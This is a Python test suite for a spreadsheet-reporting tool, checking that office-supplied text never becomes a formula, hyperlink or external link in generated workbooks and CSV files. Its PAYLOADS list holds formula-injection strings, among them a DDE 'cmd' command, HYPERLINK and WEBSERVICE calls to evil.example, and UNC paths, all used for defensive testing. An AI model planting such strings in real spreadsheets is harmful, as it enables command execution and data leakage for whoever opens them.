"""Nothing that an office types becomes a formula or a link in anything that the program writes."""

from __future__ import annotations

import csv
import re
from datetime import date
from pathlib import Path
from zipfile import ZipFile

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from xlsxwriter.workbook import Workbook

from xl_apa.core.fiscal import Quarter
from xl_apa.core.model import Layout, Office
from xl_apa.ministry.export.files import write_csv
from xl_apa.ministry.model import Task
from xl_apa.ministry.register.model import Registered
from xl_apa.ministry.register.write import write_register
from xl_apa.ministry.review.letter import LetterOptions
from xl_apa.ministry.summarise import FeedbackRequest, ReadingOptions, summarise
from xl_apa.plans import load_plan
from xl_apa.sheets.build.workbook import build_template
from xl_apa.sheets.layout import quarter_sheet
from xl_apa.xlsx.cell_limits import LONGEST_TEXT, Unfit, cell_text
from xl_apa.xlsx.edit.cell_editor import write_cells
from xl_apa.xlsx.edit.strip_formulas import write_values_only
from xl_apa.xlsx.write.sheet_writer import OPTIONS, SheetWriter
from xl_apa.xlsx.write.styles import PLAIN, Styles

Q2 = quarter_sheet(Quarter.Q2)
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    "\ud800=1+1",
    "\ufffe=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    '"&HYPERLINK("https://evil.example")&"',
    '")+WEBSERVICE("https://evil.example")+("',
    "https://evil.example/x",
    "mailto:evil@evil.example",
    "file:///c:/evil",
    r"\\evil.example\share",
    "internal:'তথ্য'!A1",
    "external:evil.xlsx",
    "{=1+1}",
    "<f>1+1</f>",
    "]]><c><f>1+1</f></c>",
    "</t></si><si><t>=1",
    "<r>=1+1</r>",
    "_x003D_1+1",
    "&#61;1+1",
    "&quot;&gt;=1",
    "\u202e=1+1",
    "\u2066@evil",
    "=evil" + "ক" * 300,
    "=" + "😀" * 20_000,
)
HOSTILE = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds("".join, st.tuples(st.sampled_from(PAYLOADS), st.text(st.characters(exclude_categories=()), max_size=8))),
    st.builds("".join, st.tuples(st.text(st.characters(exclude_categories=()), max_size=3), st.sampled_from(PAYLOADS))),
)
LITERAL = re.compile(r'"(?:[^"]|"")*"')
FEW = settings(max_examples=15, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))


def shown(text: str) -> str:
    """A text as a cell shows it: line breaks are of one kind there, and a cell is not blank for blanks."""
    return cell_text(text).replace("\r\n", "\n").replace("\r", "\n")


def formulas_of(path: Path) -> list[str]:
    """Every formula of a workbook, of cells and of all else that may hold one."""
    kinds = ("{*}f", "{*}formula", "{*}formula1", "{*}definedName")
    with ZipFile(path) as package:
        parts = [etree.fromstring(package.read(name)) for name in package.namelist() if name.endswith(".xml")]
    return [element.text or "" for part in parts for element in part.iter(*kinds)]


def assert_no_formula_of_an_office(path: Path) -> None:
    """What is evil stands in formulas as a text in quotes at most, and nothing leads out of the workbook."""
    for formula in formulas_of(path):
        assert not re.search("evil|WEBSERVICE|1\\+1|cmd", LITERAL.sub('""', formula)), formula
    with ZipFile(path) as package:
        assert not [name for name in package.namelist() if "externalLink" in name or "connections" in name]
        for name in package.namelist():
            assert b"<hyperlink " not in package.read(name), name
            if name.endswith(".rels"):
                assert b"TargetMode" not in package.read(name), name


@FEW
@given(st.lists(HOSTILE, min_size=1, max_size=12))
def test_every_writer_of_cells_writes_texts_as_texts(tmp_path_factory, texts: list[str]) -> None:
    path = tmp_path_factory.mktemp("written") / "book.xlsx"
    with Workbook(str(path), OPTIONS) as book:
        sheet = SheetWriter(book, "a", Styles(book), unfit=Unfit.ADAPT, default_height=15)
        sheet.set_widths([20, 20, 20, 20])
        for row, text in enumerate(texts):
            sheet.write(row, 0, text, PLAIN)
            sheet.write(row, 1, text, PLAIN, columns=2)
        end = sheet.write_rows(len(texts), [PLAIN] * 2, [(text, text) for text in texts])
        assert end == 2 * len(texts)
    edited = path.with_name("edited.xlsx")
    write_cells(path, edited, {"a": {(row, 3): text for row, text in enumerate(texts)}})
    values = path.with_name("values.xlsx")
    write_values_only(edited, values)
    for each in (path, edited, values):
        assert formulas_of(each) == []
        assert_no_formula_of_an_office(each)
    read = openpyxl.load_workbook(edited)["a"]
    for row, text in enumerate(texts):
        for cell in (read.cell(row + 1, 1), read.cell(row + 1, 2), read.cell(len(texts) + row + 1, 1)):
            assert cell.data_type != "f" or cell.value == shown(text)
            assert len((cell.value or "").encode("utf-16-le", "replace")) // 2 <= LONGEST_TEXT + 8


@settings(FEW, max_examples=6)
@given(st.tuples(HOSTILE, HOSTILE, HOSTILE))
def test_a_form_keeps_what_an_office_is_called_as_text(tmp_path_factory, named: tuple[str, str, str]) -> None:
    path = tmp_path_factory.mktemp("form") / "form.xlsx"
    office = Office(*(text[:200] for text in named))
    plain = path.with_name("plain.xlsx")
    build_template(load_plan(), plain, office=Office("a", "b", "c"))
    build_template(load_plan(), path, office=office)
    assert sorted(formulas_of(path)) == sorted(formulas_of(plain))
    assert_no_formula_of_an_office(path)


def test_summary_tables_letters_and_decisions_hold_no_formula_of_an_office(tmp_path: Path) -> None:
    plan, reports = load_plan(), tmp_path / "reports"
    codes = [indicator.code for indicator in plan.indicators]
    for number, payload in enumerate(PAYLOADS):
        text = payload[:2000]
        typed = {(Q2, f"{column}{8 + row}"): text for row in range(len(codes)) for column in "MNW"}
        office = Office(f"{text[:60]}{number}", f"{text} {number}", text)
        path = reports / f"=evil {number}.xlsx"
        build_template(plan, path, layout=list(Layout)[number % 2], office=office, typed=typed)
    register = tmp_path / "register.xlsx"
    write_register(register, [Registered(text[:90], text, text, text, text, text) for text in PAYLOADS])
    task = Task(Quarter.Q2, plan)
    letters = FeedbackRequest(tmp_path / "letters", LetterOptions(date(2024, 1, 20), "en", send_to=PAYLOADS[9]))
    done = summarise([reports], tmp_path / "summary.xlsx", task, reading=ReadingOptions(jobs=1), feedback=letters)
    assert len(done.consolidation.offices) == len(PAYLOADS)
    written = [register, tmp_path / "summary.xlsx", *sorted((tmp_path / "letters").iterdir())]
    assert len(written) > len(PAYLOADS)
    for path in written:
        assert_no_formula_of_an_office(path)
    write_csv(done.consolidation, tmp_path / "data.csv")
    with (tmp_path / "data.csv").open(encoding="utf-8-sig", newline="") as file:
        fields = [field for line in csv.reader(file) for field in line]
    assert [field for field in fields if "evil" in field]
    for field in fields:
        assert not re.match(r"[\s\u200b\ufeff]*[=+@＝]|-\d*[^\d.%-]", field), field
        assert not re.search("[\x00-\x08\u202a-\u202e\u2066-\u2069]", field), field
